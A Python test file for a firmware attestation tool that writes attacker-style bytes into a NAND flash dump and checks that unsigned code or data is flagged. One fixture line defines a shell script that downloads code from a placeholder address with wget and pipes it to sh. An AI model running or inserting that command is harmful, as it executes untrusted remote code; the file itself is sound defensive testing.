"""Flash no signed image vouches for: a dump is TRUSTED only when every byte is either covered by a
signed image, per-unit data in a partition the signed layout lists, or erased flash.

The dumps are the kit's S9 NAND dump (U-Boot environment at 0x1000 of the boot partition holding
the layout, a UBI rootfs, an empty upgrade slot) with bytes written where an attacker with a
flash programmer would write them.
"""

from __future__ import annotations

from pathlib import Path

from attest.appraise import Appraisal
from attest.image.appraise_image import check_file
from attest.manifest import Manifest
from attest.trust import TrustStore
from attest.verdict import Verdict
from tests.image.conftest import DUMP_MTDPARTS, Kit

BOOT, ROOTFS, UPGRADE = 0, 256 << 10, (256 << 10) + (4 << 20)
SCRIPT = b"#!/bin/sh\nwget -q -O- http://203.0.113.9/x | sh\n"
ELF = b"\x7fELF\x01\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x28\x00" + b"\x01" * 40  # an ARM executable header


def dump_with(kit: Kit, tmp_path: Path, name: str, writes: dict[int, bytes], layout: str | None = None) -> Path:
    data = bytearray(kit["dump"].read_bytes())
    for offset, payload in writes.items():
        data[offset:offset + len(payload)] = payload
    if layout is not None:  # the rig's own mtdparts, as its U-Boot environment passes it to Linux
        at = data.index(DUMP_MTDPARTS.encode())
        text = layout.encode().ljust(len(DUMP_MTDPARTS), b"\0")  # over the erased bytes after it if longer
        data[at:at + len(text)] = text
    out = tmp_path / name
    out.write_bytes(bytes(data))
    return out


def check(path: Path, trust: TrustStore, manifest: Manifest) -> Appraisal:
    return check_file(str(path), trust, [manifest])


def details(a: Appraisal, code: str) -> list[str]:
    return [r.detail for r in a.reasons if r.code == code]


def test_the_genuine_dump_is_trusted_with_its_environment_as_per_unit_data(kit: Kit, trust: TrustStore,
                                                                          manifest: Manifest) -> None:
    a = check(kit["dump"], trust, manifest)
    assert a.verdict is Verdict.TRUSTED
    assert not details(a, "FIRMWARE_UNSIGNED_DATA") and not details(a, "FIRMWARE_UNSIGNED_CONTENT")


def test_a_script_written_into_the_boot_env_partition_is_untrusted(kit: Kit, trust: TrustStore,
                                                                   manifest: Manifest, tmp_path: Path) -> None:
    path = dump_with(kit, tmp_path, "env-script.dump", {BOOT + 0x8000: SCRIPT})
    a = check(path, trust, manifest)
    assert a.verdict is Verdict.UNTRUSTED
    [detail] = details(a, "FIRMWARE_UNSIGNED_CONTENT")
    assert detail.startswith("partition BOOT.bin-env-dts-kernel: in the signed flash layout, but no signed image")
    assert "a script (#!/bin/sh) at byte 0x8000" in detail


def test_an_elf_in_the_upgrade_slot_is_untrusted(kit: Kit, trust: TrustStore, manifest: Manifest,
                                                 tmp_path: Path) -> None:
    path = dump_with(kit, tmp_path, "upgrade-elf.dump", {UPGRADE + 0x2000: ELF})
    a = check(path, trust, manifest)
    assert a.verdict is Verdict.UNTRUSTED
    [detail] = details(a, "FIRMWARE_UNSIGNED_CONTENT")
    assert detail.startswith("partition upgrade-rootfs:") and "an ELF program at byte 0x2000" in detail


def test_flash_the_rigs_own_layout_leaves_out_is_a_finding(kit: Kit, trust: TrustStore, manifest: Manifest,
                                                           tmp_path: Path) -> None:
    """The rig's environment drops its last partition: those bytes are in no partition at all."""
    short = DUMP_MTDPARTS.rsplit(",", 1)[0]
    code = dump_with(kit, tmp_path, "outside-elf.dump", {UPGRADE + 0x100: ELF}, layout=short)
    a = check(code, trust, manifest)
    assert a.verdict is Verdict.UNTRUSTED
    [detail] = details(a, "FIRMWARE_UNSIGNED_CONTENT")
    assert detail.startswith(f"(outside every partition, bytes {UPGRADE:#x}..") and "an ELF program" in detail
    data = dump_with(kit, tmp_path, "outside-data.dump", {UPGRADE + 0x100: b"fan=auto pool=stratum2"}, layout=short)
    b = check(data, trust, manifest)
    assert b.verdict is Verdict.WARNING
    [named] = details(b, "FIRMWARE_UNSIGNED_DATA")
    assert "22 of its" in named and "fan=auto" in named


def test_a_partition_the_signed_layout_does_not_list_is_a_finding(kit: Kit, trust: TrustStore,
                                                                  manifest: Manifest, tmp_path: Path) -> None:
    """The rig's own layout splits the upgrade slot: neither half is what the vendor signed."""
    split = DUMP_MTDPARTS.rsplit(",", 1)[0] + ",128k(upgrade-rootfs),128k(extra)"
    data = dump_with(kit, tmp_path, "extra.dump", {UPGRADE + (128 << 10): b"extra settings"}, layout=split)
    a = check(data, trust, manifest)
    assert a.verdict is Verdict.WARNING
    named = details(a, "FIRMWARE_UNSIGNED_DATA")
    assert any(d.startswith("partition extra: not in any signed flash layout; 14 of its") for d in named)
    assert any(d.startswith("partition upgrade-rootfs: not in any signed flash layout; ") for d in named)
    code = dump_with(kit, tmp_path, "extra-elf.dump", {UPGRADE + (128 << 10): ELF}, layout=split)
    b = check(code, trust, manifest)
    assert b.verdict is Verdict.UNTRUSTED
    assert any(d.startswith("partition extra: not in any signed flash layout; it may hold code: an ELF program")
               for d in details(b, "FIRMWARE_UNSIGNED_CONTENT"))


def test_code_in_an_eraseblock_no_ubi_volume_holds_is_untrusted(kit: Kit, trust: TrustStore,
                                                                manifest: Manifest, tmp_path: Path) -> None:
    """The rootfs partition is vouched for by its UBI volume's digest; an eraseblock past the
    volume's, with no UBI header, is held by no volume, so that digest does not cover it."""
    used = kit["ubi"].stat().st_size
    free_block = ROOTFS + -(-used // (128 << 10)) * (128 << 10)
    path = dump_with(kit, tmp_path, "loose-peb.dump", {free_block + 0x40: ELF})
    a = check(path, trust, manifest)
    assert a.verdict is Verdict.UNTRUSTED
    [detail] = details(a, "FIRMWARE_UNSIGNED_CONTENT")
    assert detail.startswith("angstram-rootfs (no UBI volume, bytes ") and "an ELF program at byte 0x40" in detail


def test_code_between_a_ubi_eraseblocks_headers_and_its_data_is_untrusted(kit: Kit, trust: TrustStore,
                                                                          manifest: Manifest, tmp_path: Path) -> None:
    """Found by bench/fuzz.py: the bytes between a used eraseblock's headers and its data are read
    by nothing (ubinize leaves them erased), so the volume's digest does not cover them either."""
    first_rootfs_block = ROOTFS + 2 * (128 << 10)  # after the two copies of the volume table
    path = dump_with(kit, tmp_path, "header-gap.dump", {first_rootfs_block + 0x100: ELF})
    a = check(path, trust, manifest)
    assert a.verdict is Verdict.UNTRUSTED
    [detail] = details(a, "FIRMWARE_UNSIGNED_CONTENT")
    assert detail.startswith("angstram-rootfs (no UBI volume, bytes ") and "an ELF program at byte 0xc0" in detail


def test_bytes_in_an_unused_ubi_volume_table_record_are_damage_not_padding(kit: Kit, trust: TrustStore,
                                                                            manifest: Manifest, tmp_path: Path) -> None:
    """Found by bench/fuzz.py: bytes written into an unused volume table record were skipped,
    and the dump stayed TRUSTED. Linux refuses to attach such a table (vtbl_check)."""
    record_5_name = ROOTFS + 4096 + 5 * 172 + 20  # the table is LEB 0's data (at 4 KiB: 2 KiB pages)
    path = dump_with(kit, tmp_path, "vtbl.dump", {record_5_name: b"\x7fELF"})
    a = check(path, trust, manifest)
    assert a.verdict is not Verdict.TRUSTED
    assert any("damaged empty record (5)" in d for d in details(a, "IMAGE_CORRUPT"))
